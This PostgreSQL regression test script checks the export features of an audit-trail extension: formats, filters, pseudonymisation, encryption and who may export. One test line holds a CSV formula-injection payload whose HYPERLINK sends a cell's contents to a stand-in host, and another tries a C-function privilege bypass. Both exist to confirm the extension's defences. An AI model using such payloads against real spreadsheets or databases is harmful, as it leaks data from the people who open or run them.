-- Exports for other systems (docs/exports.md): witness.export() in csv (RFC 4180), jsonl and syslog
-- (RFC 5424), filtered; the anonymised variant; witness.export_encrypted(); who may export, and
-- that every export is recorded. In a database of its own, so that entry ids and blocks are the
-- test's own.
-- Each database drains its own activity events (docs/activity.md): this one's first, so that the
-- queue has room for the test's.
SELECT witness.flush_activity() >= 0 AS flushed;
CREATE DATABASE regress_witness_exports;
\c regress_witness_exports
SET client_min_messages = warning;
CREATE EXTENSION pg_witness;
CREATE SCHEMA ex;
CREATE FUNCTION ex.try(statement text) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
	EXECUTE statement;
	RETURN 'ok';
EXCEPTION WHEN OTHERS THEN
	RETURN SQLSTATE || ': ' || SQLERRM;
END
$$;
GRANT USAGE ON SCHEMA ex TO PUBLIC;
-- What changes from run to run: times, leaf hashes (they cover the time), backend pids.
CREATE FUNCTION ex.n(line text) RETURNS text LANGUAGE sql AS $$
	SELECT regexp_replace(regexp_replace(regexp_replace(line, '\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z', 'TIME', 'g'),
	                                     '[0-9a-f]{64}', 'HASH', 'g'), 'pg_witness \d+ ', 'pg_witness PID ')
$$;
-- The fields of one CSV record (RFC 4180), parsed back.
CREATE FUNCTION ex.csv_fields(rec text) RETURNS text[] LANGUAGE plpgsql AS $$
DECLARE
	fields text[] := '{}';
	cur text := '';
	quoted boolean := false;
	i integer := 1;
	ch text;
BEGIN
	WHILE i <= length(rec) LOOP
		ch := substr(rec, i, 1);
		IF quoted THEN
			IF ch = '"' AND substr(rec, i + 1, 1) = '"' THEN
				cur := cur || '"';
				i := i + 1;
			ELSIF ch = '"' THEN
				quoted := false;
			ELSE
				cur := cur || ch;
			END IF;
		ELSIF ch = '"' THEN
			quoted := true;
		ELSIF ch = ',' THEN
			fields := fields || cur;
			cur := '';
		ELSE
			cur := cur || ch;
		END IF;
		i := i + 1;
	END LOOP;
	RETURN fields || cur;
END
$$;

CREATE TABLE public.customers (id int PRIMARY KEY, email text, name text, card text);
SELECT witness.track('customers', column_tags => '{"card": "financial", "email": "pii"}', subject_column => 'email',
                     encrypt => false);
CREATE TABLE public.orders (id int PRIMARY KEY, amount numeric);
SELECT witness.track('orders');
BEGIN;
SET LOCAL witness.actor = 'alice@example.com';
SET LOCAL witness.reason = 'onboarding, ticket "OPS-1"';
INSERT INTO customers VALUES (1, 'ada@example.org', 'Ada, "the" first' || chr(10) || 'line 2', '4111'),
                             (2, 'bob@example.org', '', '4222');
INSERT INTO orders VALUES (10, 9.50);
COMMIT;
SELECT block_no, entry_count FROM witness.seal();
UPDATE customers SET card = '4333' WHERE id = 2;
DELETE FROM orders;

-- Each format: the entries sealed in block 1 carry it, the later ones have none yet.
SELECT ex.n(x) FROM witness.export('csv', table_name => 'customers') x;
SELECT ex.n(x) FROM witness.export('jsonl', table_name => 'public.orders') x;
SELECT ex.n(x) FROM witness.export('syslog', table_name => 'orders') x;
-- Every line is valid JSON (jsonl) and one line (syslog); csv fields come back as they were.
SELECT count(*) AS jsonl_lines, count(*) FILTER (WHERE (x::jsonb ->> 'entry_id') IS NOT NULL) AS parsed
FROM witness.export('jsonl') x;
SELECT count(*) FILTER (WHERE strpos(x, chr(10)) > 0) AS syslog_lines_with_a_break FROM witness.export('syslog') x;
SELECT (ex.csv_fields(x))[10]::jsonb ->> 'name' = 'Ada, "the" first' || chr(10) || 'line 2' AS name_back,
       (ex.csv_fields(x))[16] AS reason, (ex.csv_fields(x))[11] AS actor, cardinality(ex.csv_fields(x)) AS fields
FROM witness.export('csv', table_name => 'customers', operation => 'INSERT') x WHERE x LIKE '3,%';
-- The empty name of customer 2 is "" (an empty string), NULL values empty fields.
SELECT (ex.csv_fields(x))[10]::jsonb ->> 'name' AS name, (ex.csv_fields(x))[9] IS NULL OR (ex.csv_fields(x))[9] = '' AS no_old
FROM witness.export('csv', table_name => 'customers', operation => 'INSERT') x WHERE x LIKE '4,%';
-- The leaf hash and block of each line are the trail's.
SELECT bool_and(l.leaf_hash = decode(x::jsonb ->> 'leaf_hash', 'hex')) AS leaf_hashes_match,
       bool_and((x::jsonb ->> 'block_no')::bigint IS NOT DISTINCT FROM (witness.block_of(l.id)).block_no) AS blocks_match
FROM witness.export('jsonl') x JOIN witness.log l ON l.id = (x::jsonb ->> 'entry_id')::bigint;

-- Filters.
SELECT (SELECT count(*) FROM witness.export('jsonl', actor => 'alice@example.com')) AS by_actor,
       (SELECT count(*) FROM witness.export('jsonl', operation => 'update')) AS updates,
       (SELECT count(*) FROM witness.export('jsonl', tag => 'financial')) AS financial,
       (SELECT count(*) FROM witness.export('jsonl', table_name => 'customers', db_user => current_user)) AS by_db_user,
       (SELECT count(*) FROM witness.export('jsonl', db_user => 'nobody')) AS nobody,
       (SELECT count(*) FROM witness.export('jsonl', since => now() + interval '1 day')) AS future,
       (SELECT count(*) FROM witness.export('jsonl', until => now() - interval '1 day')) AS past;
SELECT ex.try($$SELECT witness.export('xml')$$);
SELECT ex.try($$SELECT witness.export(NULL)$$);
SELECT ex.try($$SELECT witness.export('csv', operation => 'merge')$$);
-- Fields a spreadsheet would run as formulas get a ' before them (an attack review's =HYPERLINK actor);
-- numbers do not; a field starting with ' gets one more.
SELECT witness._csv_line(ARRAY['=HYPERLINK("http://x/?"&B2,"open")', '@SUM(A1)', '+41 cmd', '-', '-5', '1.5e3', '''quoted', E'\tx', 'plain']) AS fields;
-- The iteration count is the caller's, up to 10,000,000: a statement timeout stops the key derivation.
SET statement_timeout = '500ms';
SELECT count(*) FROM witness.export_encrypted('passphrase', 'csv', iterations => 10000000);
RESET statement_timeout;
SELECT ex.try($$SELECT witness.export_encrypted('passphrase', 'csv', iterations => 2147483647)$$);
SELECT ex.try($$SELECT witness.export('csv', tag => 'PII')$$);
SELECT ex.try($$SELECT witness.export('csv', tag => 'secret')$$);
SELECT (SELECT count(*) FROM witness.export('CSV', tag => 'pii')) = (SELECT count(*) FROM witness.export('csv', tag => 'pii')) AS format_in_any_case;
SELECT ex.try($$SELECT witness.export('csv', since => now(), until => now() - interval '1 s')$$);
SELECT ex.try($$SELECT witness.export('csv', pseudonym_key => '\x00112233445566778899aabbccddeeff')$$);
-- A table name no table can have: refused, as search() refuses it (it matched nothing, silently).
SELECT ex.try($$SELECT witness.export('jsonl', table_name => '"bad')$$);
SELECT ex.try($$SELECT witness.export('jsonl', table_name => 'a.b.c')$$);

-- Anonymised: subjects and classified values become keyed pseudonyms, the rest stays.
SELECT ex.try($$SELECT witness.export('jsonl', anonymise => true)$$);
SELECT ex.try($$SELECT witness.export('jsonl', anonymise => true, pseudonym_key => '\x0011')$$);
SELECT ex.n(x) FROM witness.export('jsonl', table_name => 'customers', anonymise => true,
                                  pseudonym_key => '\x00112233445566778899aabbccddeeff') x;
-- (The card numbers as quoted values: a leaf hash or a pseudonym may hold the digits 4111.)
SELECT count(*) FILTER (WHERE x ~ 'ada@|bob@|"(4111|4222|4333)"') AS lines_with_a_classified_value, count(*) AS lines,
       (SELECT count(*) FROM witness.export('csv') y WHERE y ~ 'ada@|bob@|"(4111|4222|4333)"') AS such_lines_in_clear
FROM witness.export('csv', anonymise => true, pseudonym_key => '\x00112233445566778899aabbccddeeff') x;
-- The same value under the same key gives the same pseudonym; another key another one.
-- (HMAC-SHA256 computed with Python's hmac module.)
SELECT witness._export_pseudonym('\x00112233445566778899aabbccddeeff', 'ada@example.org')
     = 'anon:dffffa9809e2633a61aa4f07e1fc54fd' AS is_hmac;
SELECT witness._export_pseudonym('\x00112233445566778899aabbccddeeff', 'ada@example.org')
     <> witness._export_pseudonym('\xffeeddccbbaa99887766554433221100', 'ada@example.org') AS keys_differ;
-- Under the master key, without a key argument.
SELECT set_config('witness.master_key_file', current_setting('data_directory') || '/regress_witness_a.key', false) IS NOT NULL AS set;
SELECT ex.n(x) FROM witness.export('jsonl', table_name => 'customers', anonymise => true) x WHERE x::jsonb ->> 'entry_id' = '3';
SELECT set_config('witness.master_key_file', current_setting('data_directory') || '/regress_witness_b.key', false) IS NOT NULL AS set;
SELECT count(*) AS lines, count(DISTINCT x::jsonb ->> 'subject') AS subjects FROM witness.export('jsonl', table_name => 'customers', anonymise => true) x;
-- A table encrypted at rest: its row key, subject and values are sealed bytes in the trail, NULL in
-- witness.log and so in every export, anonymised or not (witness.subject_export() decrypts).
CREATE TABLE public.patients (id int PRIMARY KEY, email text, diagnosis text);
SELECT witness.track('patients', 'pii', subject_column => 'email');
INSERT INTO patients VALUES (1, 'pat@example.org', 'flu');
SELECT ex.n(x) FROM witness.export('jsonl', table_name => 'patients') x;
SELECT count(*) FILTER (WHERE x ~ 'pat@|flu') AS lines_with_a_value FROM witness.export('csv', table_name => 'patients', anonymise => true) x;
RESET witness.master_key_file;
-- A table classified internal whose subject column carries no tag: the subject is pseudonymised, and
-- now its column's value in the row key and values too, to the same pseudonym (an attack review found
-- the address in clear there); the other values stay.
CREATE TABLE public.members (id int PRIMARY KEY, email text, plan text);
SELECT witness.track('members', 'internal', subject_column => 'email', encrypt => false);
INSERT INTO members VALUES (1, 'mia@example.org', 'basic');
UPDATE members SET email = 'mia@example.net' WHERE id = 1;
SELECT x::jsonb ->> 'operation' AS op, x::jsonb ->> 'subject' = x::jsonb -> 'new_values' ->> 'email' AS same_pseudonym,
       x::jsonb -> 'old_values' ->> 'email' LIKE 'anon:%' AS old_pseudonymised, x::jsonb -> 'new_values' ->> 'plan' AS plan,
       x ~ 'mia@' AS address_in_clear
FROM witness.export('jsonl', table_name => 'members', anonymise => true, pseudonym_key => '\x00112233445566778899aabbccddeeff') x
ORDER BY (x::jsonb ->> 'entry_id')::bigint;
-- The subject column renamed, and back: which column held the subject in the older entries is not
-- known any more, so all their values are pseudonymised (an attack review found the address in clear
-- beside its pseudonym in every older entry); the newer entries are as before.
ALTER TABLE members RENAME COLUMN email TO mail;
ALTER TABLE members RENAME COLUMN mail TO email;
INSERT INTO members VALUES (2, 'max@example.org', 'pro');
SELECT x::jsonb ->> 'operation' AS op, x::jsonb -> 'new_values' ->> 'plan' AS plan,
       x::jsonb -> 'old_values' ->> 'email' LIKE 'anon:%' AS old_pseudonymised, x ~ '(mia|max)@' AS address_in_clear
FROM witness.export('jsonl', table_name => 'members', anonymise => true, pseudonym_key => '\x00112233445566778899aabbccddeeff') x
ORDER BY (x::jsonb ->> 'entry_id')::bigint;
-- Another column tagged: the entries are masked, and the subject column's value is pseudonymised
-- too (the review of the fix: only the tagged column was, and the address stayed in clear).
SELECT witness.track('members', 'internal', column_tags => '{"plan": "pii"}', subject_column => 'email', encrypt => false);
INSERT INTO members VALUES (3, 'mo@example.org', 'gold');
SELECT x::jsonb -> 'new_values' ->> 'plan' LIKE 'anon:%' AS plan_pseudonymised,
       x::jsonb ->> 'subject' = x::jsonb -> 'new_values' ->> 'email' AS same_pseudonym, x ~ 'mo@' AS address_in_clear
FROM witness.export('jsonl', table_name => 'members', anonymise => true, pseudonym_key => '\x00112233445566778899aabbccddeeff') x
WHERE x::jsonb -> 'row_key' ->> 'id' = '3' OR x ~ 'mo@';
SELECT witness.untrack('members');
-- No longer tracked: every value of an entry with a subject.
SELECT count(*) AS lines, count(*) FILTER (WHERE x ~ '(mia|max|mo)@') AS lines_with_an_address
FROM witness.export('jsonl', table_name => 'members', anonymise => true, pseudonym_key => '\x00112233445566778899aabbccddeeff') x;
DROP TABLE members;

-- Encrypted: base64 lines of 64 characters, "Salted__" first (U2FsdGVkX1), a fresh salt each time.
SELECT count(*) > 2 AS lines, bool_and(length(x) = 64 OR n = (SELECT count(*) FROM witness.export_encrypted('secret', 'jsonl', iterations => 1000))) AS lines_of_64,
       bool_or(n = 1 AND x LIKE 'U2FsdGVkX1%') AS salted
FROM witness.export_encrypted('secret', 'jsonl', iterations => 1000) WITH ORDINALITY AS e(x, n);
SELECT (SELECT x FROM witness.export_encrypted('secret', 'csv', iterations => 1000) x LIMIT 1)
    <> (SELECT x FROM witness.export_encrypted('secret', 'csv', iterations => 1000) x LIMIT 1) AS fresh_salt;
-- Stopping early (LIMIT) is fine; an empty export is one block of padding.
SELECT count(*) FROM (SELECT witness.export_encrypted('secret', 'csv', iterations => 1000) LIMIT 1) s;
SELECT count(*) FROM witness.export_encrypted('secret', 'jsonl', since => now() + interval '1 day', iterations => 1000);
SELECT ex.try($$SELECT witness.export_encrypted('', 'csv')$$);
SELECT ex.try($$SELECT witness.export_encrypted(NULL, 'csv')$$);
SELECT ex.try($$SELECT witness.export_encrypted('p', 'csv', iterations => 999)$$);
SELECT ex.try($$SELECT witness.export_encrypted('p', 'html')$$);

-- Who may export: an auditor (values unmasked) and a reader (values masked as witness.log masks them).
-- A table owner, a role with only DML grants, a role with CREATE on the database and an admin are refused.
CREATE ROLE regress_ex_reader;
CREATE ROLE regress_ex_auditor;
CREATE ROLE regress_ex_owner;
CREATE ROLE regress_ex_dml;
CREATE ROLE regress_ex_creator;
CREATE ROLE regress_ex_admin;
GRANT witness_reader TO regress_ex_reader;
GRANT witness_auditor TO regress_ex_auditor;
GRANT witness_admin TO regress_ex_admin;
CREATE TABLE public.owned (id int PRIMARY KEY);
ALTER TABLE public.owned OWNER TO regress_ex_owner;
GRANT SELECT, INSERT, UPDATE, DELETE ON customers TO regress_ex_dml;
GRANT CREATE ON DATABASE regress_witness_exports TO regress_ex_creator;
SET ROLE regress_ex_reader;
SELECT ex.n(x) FROM witness.export('jsonl', table_name => 'customers', operation => 'update') x;
SELECT ex.n(x) FROM witness.export('csv', table_name => 'customers', operation => 'update', anonymise => true,
                                  pseudonym_key => '\x00112233445566778899aabbccddeeff') x;
SELECT count(*) > 0 AS reader_encrypted FROM witness.export_encrypted('p', 'csv', iterations => 1000);
RESET ROLE;
SET ROLE regress_ex_auditor;
SELECT ex.n(x) FROM witness.export('jsonl', table_name => 'customers', operation => 'update') x;
RESET ROLE;
SET ROLE regress_ex_owner;
SELECT ex.try($$SELECT witness.export('csv')$$);
SELECT ex.try($$SELECT witness.export_encrypted('p', 'csv')$$);
RESET ROLE;
SET ROLE regress_ex_dml;
SELECT ex.try($$SELECT witness.export('csv')$$);
SELECT ex.try($$SELECT witness._export_line('csv', NULL, NULL, NULL)$$);
RESET ROLE;
SET ROLE regress_ex_creator;
SELECT ex.try($$SELECT witness.export('syslog')$$);
-- A function of its own in a schema of its own does not get past the schema's privileges either.
CREATE SCHEMA regress_ex_mine;
SELECT ex.try($$CREATE FUNCTION regress_ex_mine.export(format text) RETURNS SETOF text
                AS 'pg_witness', 'witness_export' LANGUAGE C$$);
RESET ROLE;
SET ROLE regress_ex_admin;
SELECT ex.try($$SELECT witness.export('jsonl')$$);
-- A refused encrypted export keeps its passphrase out of the record too.
SELECT ex.try($$SELECT witness.export_encrypted('admin secret', 'jsonl')$$);
RESET ROLE;

-- A time-limited auditor exports the entries of its period only, as witness.log shows them to it.
CREATE ROLE regress_ex_period;
SELECT witness.grant_auditor('regress_ex_period', now() + interval '1 hour',
                             since => (SELECT stmt_time FROM witness.log WHERE table_name = 'customers' AND operation = 'UPDATE')) > 0 AS granted;
SET ROLE regress_ex_period;
SELECT string_agg(x::jsonb ->> 'entry_id', ',' ORDER BY (x::jsonb ->> 'entry_id')::int) AS entries_of_the_period
FROM witness.export('jsonl', table_name => 'customers') x;
SELECT count(*) AS lines_before_the_period
FROM witness.export('jsonl', until => (SELECT stmt_time FROM witness.log WHERE table_name = 'customers' AND operation = 'UPDATE')) x;
RESET ROLE;

-- Every export is recorded as a call, naming the role, its statement withheld (it may hold a
-- passphrase or a pseudonym key); every refusal as denied.
SELECT witness.flush_activity() >= 0 AS flushed;
SELECT a.kind, a.outcome, a.current_user_name, a.object_name, a.sqlstate, left(a.message, 60) AS message, a.statement
FROM witness.activity a
WHERE a.current_user_name LIKE 'regress_ex_%' AND a.kind IN ('call', 'denied')
ORDER BY a.activity_id;
-- Nothing of this database is left in the queue when it is dropped.
SELECT witness.flush_activity() >= 0 AS flushed;

\c contrib_regression
DROP DATABASE regress_witness_exports;
DROP ROLE regress_ex_period, regress_ex_reader, regress_ex_auditor, regress_ex_owner, regress_ex_dml, regress_ex_creator, regress_ex_admin;
